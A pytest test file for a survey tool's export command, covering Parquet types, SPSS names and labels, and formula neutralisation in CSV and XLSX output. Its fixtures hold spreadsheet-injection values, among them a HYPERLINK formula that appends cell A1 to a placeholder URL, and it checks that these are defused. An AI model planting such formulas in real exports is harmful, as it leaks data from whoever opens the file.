"""survey export: the layout, typed Parquet, SPSS labels and names, text that stays text."""

from __future__ import annotations

from datetime import date
from pathlib import Path

import pytest
import sqlalchemy as sa

from innostudy.model import Response
from innostudy.storage.store import StudyStore
from innostudy.survey.exporting import SPSS_NAME_BYTES, spss_name, spss_names
from tests.conftest import Cli
from tests.survey.conftest import fixture


@pytest.fixture
def answered(cli: Cli, pilot_study: Path) -> Path:
    assert (
        cli("--study", pilot_study, "survey", "import", fixture("generic_good.csv")).exit_code == 0
    )
    return pilot_study


def test_parquet_keeps_types(cli: Cli, answered: Path, tmp_path: Path) -> None:
    import pyarrow.parquet as pq

    out = tmp_path / "r.parquet"
    result = cli("--study", answered, "survey", "export", out, "--status", "submitted")
    assert result.exit_code == 0 and "Wrote 5 responses" in result.stdout
    table = pq.read_table(out)
    assert table.num_rows == 5
    rows = {r["organisation"]: r for r in table.to_pylist()}
    dept = rows["Department for Tests"]
    assert dept["completed"] == date(2023, 4, 1) and dept["months"] == 14 and dept["staff"] == 12
    assert (dept["origin/managers"], dept["origin/ministers"]) == (1, 0)
    assert (dept["barriers/culture"], dept["barriers/funding"], dept["barriers/it"]) == (1, 2, None)
    assert str(table.schema.field("share").type) == "double"
    assert "email" not in table.schema.names and "token" not in table.schema.names


def test_sav_has_value_labels_variable_labels_and_valid_names(
    cli: Cli, answered: Path, tmp_path: Path
) -> None:
    import pyreadstat

    out = tmp_path / "r.sav"
    assert cli("--study", answered, "survey", "export", out).exit_code == 0
    frame, meta = pyreadstat.read_sav(str(out))
    assert len(frame) == 6
    assert meta.variable_value_labels["category"] == {
        1.0: "Service delivery",
        2.0: "IT or web",
        3.0: "Policy",
        9.0: "Other",
    }
    assert meta.variable_value_labels["origin.ministers"] == {0.0: "Not selected", 1.0: "Selected"}
    labels = dict(zip(meta.column_names, meta.column_labels, strict=True))
    assert labels["impacts.service"] == "Impact on - Service quality"
    assert meta.variable_measure["overall"] == "ordinal"
    codes = frame.set_index("organisation")["category"].to_dict()
    assert codes["Office of Codes"] == 3.0 and codes["Board of Others"] == 9.0


def test_xlsx_text_that_looks_like_a_formula_stays_text(
    cli: Cli, pilot_study: Path, tmp_path: Path
) -> None:
    from openpyxl import load_workbook

    source = tmp_path / "f.csv"
    source.write_text(
        "organisation,organisation_type,title,category,cost,origin/users,impacts/service,impacts/costs,overall\n"
        'Formula Office,ndpb,"=HYPERLINK(""http://example.invalid"")",it,under_100k,1,low,low,low\n',
        encoding="utf-8",
    )
    assert cli("--study", pilot_study, "survey", "import", source).exit_code == 0
    out = tmp_path / "r.xlsx"
    assert cli("--study", pilot_study, "survey", "export", out, "--labels").exit_code == 0
    wb = load_workbook(out)
    try:
        ws = wb.active
        header = [c.value for c in ws[1]]
        row = list(ws[2])
        title = row[header.index("title")]
        assert title.value == '=HYPERLINK("http://example.invalid")' and title.data_type == "s"
        assert row[header.index("category")].value == "IT or web"
    finally:
        wb.close()


def test_spss_names_are_valid_unique_and_stable() -> None:
    names = ["origin/ministers", "Origin/Ministers", "1st", "to", "x" * 80, "a-b c", "ends."]
    got = spss_names(names)
    assert got["origin/ministers"] == "origin.ministers"
    assert got["Origin/Ministers"] == "Origin.Ministers_2"  # SPSS ignores case
    assert got["1st"] == "v1st" and got["to"] == "to_" and got["a-b c"] == "a_b_c"
    assert got["ends."] == "ends_"
    assert len(got["x" * 80].encode()) <= SPSS_NAME_BYTES and got["x" * 80] == spss_name("x" * 80)
    assert spss_names(names) == got


def test_an_unknown_export_format_is_refused(cli: Cli, answered: Path, tmp_path: Path) -> None:
    result = cli("--study", answered, "survey", "export", tmp_path / "r.json")
    assert result.exit_code == 1
    assert (
        result.stderr.strip()
        == f"Error: {tmp_path / 'r.json'}: cannot export as 'json' (one of: csv, xlsx, parquet, sav)"
    )
    assert not (tmp_path / "r.json").exists() and not list(tmp_path.glob(".r.json*"))


FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"Click")'


@pytest.fixture
def hostile(cli: Cli, pilot_study: Path, tmp_path: Path) -> Path:
    """A response whose title is a spreadsheet formula and whose summary starts with '-'."""
    source = tmp_path / "hostile.csv"
    source.write_text(
        "organisation,organisation_type,title,summary,category,cost,origin/users,"
        "impacts/service,impacts/costs,overall\n"
        'Formula Office,ndpb,"=HYPERLINK(""http://example.invalid/?""&A1,""Click"")",'
        "- more staff,it,under_100k,1,low,low,low\n",
        encoding="utf-8",
    )
    assert cli("--study", pilot_study, "survey", "import", source).exit_code == 0
    return pilot_study


def _csv_rows(path: Path) -> list[dict[str, str]]:
    import csv

    with path.open(encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


@pytest.mark.parametrize(("flags", "prefix"), [((), "'"), (("--keep-formulas",), "")])
def test_csv_export_neutralises_formulas_unless_asked(
    cli: Cli, hostile: Path, tmp_path: Path, flags: tuple[str, ...], prefix: str
) -> None:
    out = tmp_path / "r.csv"
    assert cli("--study", hostile, "survey", "export", out, *flags).exit_code == 0
    (row,) = _csv_rows(out)
    assert row["title"] == prefix + FORMULA
    assert row["summary"] == prefix + "- more staff"
    assert row["organisation"] == "Formula Office" and row["months"] == ""


def test_a_neutralised_export_imports_back_unchanged(
    cli: Cli, hostile: Path, tmp_path: Path
) -> None:
    out = tmp_path / "r.csv"
    assert cli("--study", hostile, "survey", "export", out).exit_code == 0
    again = cli("--study", hostile, "survey", "import", out)
    assert again.exit_code == 0, again.stderr
    with StudyStore.open(hostile) as store, store.session() as s:
        response = s.scalars(sa.select(Response)).one()
        assert response.revision == 1  # nothing changed, so no new revision
        assert response.answers["title"] == FORMULA
        assert response.answers["summary"] == "- more staff"


def test_the_quarantine_file_neutralises_the_values_it_lists(
    cli: Cli, pilot_study: Path, tmp_path: Path
) -> None:
    source = tmp_path / "bad.csv"
    source.write_text(
        "organisation,organisation_type,title,category,cost,origin/users,impacts/service,"
        "impacts/costs,overall\n"
        "Formula Office,ndpb,x,@SUM(1+1),under_100k,1,low,low,low\n",
        encoding="utf-8",
    )
    quarantine = tmp_path / "q.csv"
    result = cli("--study", pilot_study, "survey", "import", source, "--quarantine", quarantine)
    assert result.exit_code == 1
    (problem,) = _csv_rows(quarantine)
    assert problem["value"] == "'@SUM(1+1)"
